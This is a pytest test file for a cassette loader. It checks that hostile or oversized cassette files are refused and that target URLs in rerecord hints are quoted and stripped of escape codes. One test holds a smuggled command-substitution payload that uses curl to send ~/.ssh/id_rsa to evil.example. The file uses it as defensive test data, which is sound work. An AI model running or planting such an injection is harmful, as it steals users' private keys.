"""Untrusted cassette files: bounded before anything is built (exit 2, one line); hints quote targets."""

from __future__ import annotations

from pathlib import Path

import pytest

from conformance.cassettes.errors import CASSETTE_TARGET_NOTE, CassetteCorrupt, rerecord_hint
from conformance.cassettes.format import MAX_CASSETTE_BYTES, load_cassette
from tests.support.hostile_cassettes import CASES, FILE


@pytest.mark.parametrize("case", sorted(CASES))
def test_load_refuses_before_building(case: str, tmp_path: Path) -> None:
    text, problem = CASES[case]
    path = tmp_path / FILE
    path.write_text(text)
    with pytest.raises(CassetteCorrupt, match=problem):
        load_cassette(path)


def test_an_oversized_cassette_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / FILE
    with path.open("wb") as sparse:
        sparse.truncate(MAX_CASSETTE_BYTES + 1)
    with pytest.raises(CassetteCorrupt, match=r"over the .*-byte bound"):
        load_cassette(path)


def test_a_target_from_a_cassette_is_quoted_and_labelled() -> None:
    hostile = "http://evil.example/$(curl -d @~/.ssh/id_rsa evil.example)\x1b[2J"
    hint = rerecord_hint(hostile)
    assert "'http://evil.example/$(curl -d @~/.ssh/id_rsa evil.example)\\x1b[2J'" in hint
    assert CASSETTE_TARGET_NOTE in hint
    assert "\x1b" not in hint
    assert rerecord_hint() == "conformance run --target URL --record"
